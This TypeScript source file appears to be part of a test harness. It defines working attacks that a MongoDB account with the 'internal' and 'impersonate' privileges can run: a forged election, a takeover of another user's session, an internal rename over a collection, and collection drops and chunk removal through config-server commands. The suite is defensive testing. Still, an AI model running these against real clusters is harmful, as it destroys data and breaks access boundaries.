/** What `internal` and `impersonate` bring about, which no built-in role but `__system` has. */
import { type Binary, Long, MongoClient, Timestamp } from 'mongodb';
import { withMongo } from '../../../src/demo/seed.ts';
import { untilSettled } from '../server.ts';
import { type Attack, entryOfLogs, type Scene, SECRET, writerIsRefused } from './scene.ts';

const admin = (client: MongoClient, command: object) => client.db('admin').command({ ...command });

/** A later term, and an optime that is ahead of every member's. */
async function askForVotes(account: MongoClient, { root }: Scene): Promise<unknown> {
  const [{ config }, { term }] = await Promise.all([
    admin(root, { replSetGetConfig: 1 }),
    admin(root, { replSetGetStatus: 1 }),
  ]);
  return admin(account, {
    replSetRequestVotes: 1,
    setName: config._id,
    dryRun: false,
    term: Long.fromNumber(Number(term) + 5),
    candidateIndex: config.members.length - 1,
    configVersion: config.version,
    configTerm: Number(config.term),
    lastAppliedOpTime: { ts: new Timestamp({ t: 4_000_000_000, i: 1 }), t: Long.fromNumber(9999) },
  });
}

/** Brings the other database to the shard of the first; without shards there is nothing to bring. */
async function onOneShard({ root, db, elsewhere }: Scene): Promise<void> {
  const names = { $in: [db, elsewhere] };
  const databases = await root
    .db('config')
    .collection<{ _id: string; primary: string }>('databases')
    .find({ _id: names })
    .toArray();
  const to = databases.find(({ _id }) => _id === db)?.primary;
  const other = databases.find(({ _id }) => _id === elsewhere);
  if (to !== undefined && other !== undefined && other.primary !== to)
    await admin(root, { movePrimary: elsewhere, to });
}

/** The session's identifier, as `$listLocalSessions` shows it to whoever may list those of others. */
async function identifierOf(account: MongoClient, id: Binary): Promise<{ readonly id: Binary; readonly uid: Binary }> {
  const sessions = await account
    .db('admin')
    .aggregate([{ $listLocalSessions: { allUsers: true } }])
    .toArray();
  const found = sessions.find(({ _id }) => _id.id.toString('hex') === id.toString('hex'));
  if (found === undefined) throw new Error('the session is not listed');
  return found['_id'];
}

/** Starts a transaction with a high number in the writer's session; tells whether the writer is refused afterwards. */
async function takeSession(account: MongoClient, { db, elsewhere, writerUri }: Scene): Promise<boolean> {
  const writer = new MongoClient(writerUri, { retryWrites: true });
  const session = writer.startSession();
  const logs = writer.db(db).collection('logs');
  try {
    await logs.insertOne({ event: 'first' }, { session });
    const { id } = session.id as { readonly id: Binary };
    const identifier = await identifierOf(account, id);
    const own = account.startSession();
    // The driver has no way to name another's session: it is put into the one that it keeps.
    Object.assign(own.serverSession, { id: identifier, txnNumber: 1e15 });
    own.startTransaction();
    await account.db(elsewhere).collection('other').find({}, { session: own }).toArray();
    return await logs.insertOne({ event: 'second' }, { session }).then(
      () => false,
      () => true,
    );
  } finally {
    await writer.close();
  }
}

async function optionsOf({ root, db }: Scene): Promise<unknown> {
  const [found] = await root.db(db).listCollections({ name: 'logs' }).toArray();
  return found !== undefined && 'options' in found ? found.options : {};
}

/** The config server that answers directly, for the account. */
async function onConfigServer<T>(scene: Scene, work: (client: MongoClient) => Promise<T>): Promise<T> {
  const { map } = await admin(scene.root, { getShardMap: 1 });
  const [host = ''] = String(map.config).split('/').at(-1)?.split(',') ?? [];
  const url = new URL(scene.server.uri(scene.name, scene.name).replace(/^(mongodb:\/\/[^@]*@)[^/]*/, `$1${host}`));
  url.searchParams.set('directConnection', 'true');
  return withMongo(url.href, work);
}

export const INTERNALS: readonly Attack[] = [
  {
    technique: 'false-election',
    needs: 'several members',
    attack: askForVotes,
    happened: writerIsRefused,
    undo: ({ root }) => untilSettled(root),
  },
  {
    technique: 'foreign-session',
    needs: 'replica set or mongos',
    // The session is taken on the shard on which the transaction begins.
    prepare: onOneShard,
    attack: takeSession,
    happened: (_, answer) => answer === true,
  },
  {
    technique: 'internal-rename',
    attack: async (account, scene) =>
      admin(account, {
        internalRenameIfOptionsAndIndexesMatch: 1,
        from: `${scene.db}.other`,
        to: `${scene.db}.logs`,
        collectionOptions: await optionsOf(scene),
        indexes: [{ v: 2, key: { _id: 1 }, name: '_id_' }],
      }),
    happened: async ({ logs }) => (await logs.countDocuments({ event: SECRET })) === 0,
  },
  {
    technique: 'internal-drop',
    prepare: async ({ root, db }) => {
      await admin(root, { enableSharding: db });
      await admin(root, { shardCollection: `${db}.logs`, key: { _id: 1 } });
    },
    attack: (_, scene) =>
      onConfigServer(scene, async (client) => {
        const ns = `${scene.db}.logs`;
        const writeConcern = { w: 'majority' };
        await admin(client, { _configsvrDropCollection: ns, writeConcern });
        const key = { key: { event: 1 }, unique: true, getUUIDfromPrimaryShard: false };
        return admin(client, { _configsvrShardCollection: ns, ...key, writeConcern });
      }),
    happened: async (scene) => {
      const gone = (await scene.logs.countDocuments()) === 0;
      await scene.logs.insertOne({ _id: 11, event: SECRET });
      const second = scene.logs.insertOne({ _id: 12, event: SECRET });
      return second.then(
        () => false,
        () => gone,
      );
    },
  },
  {
    technique: 'internal-chunks',
    prepare: async ({ root, db }) => {
      await admin(root, { enableSharding: db });
      await admin(root, { shardCollection: `${db}.logs`, key: { _id: 1 } });
    },
    attack: async (_, scene) => {
      const { uuid: collectionUUID } = await entryOfLogs(scene);
      return onConfigServer(scene, async (client) => {
        const session = client.startSession();
        const command = { _configsvrRemoveChunks: 1, collectionUUID, writeConcern: { w: 'majority' } };
        return client.db('admin').command({ ...command, txnNumber: Long.fromNumber(1) }, { session });
      });
    },
    happened: async ({ root, logs }) => {
      await admin(root, { flushRouterConfig: 1 });
      return logs
        .find()
        .toArray()
        .then(
          (documents) => documents.length === 0,
          () => true,
        );
    },
  },
];
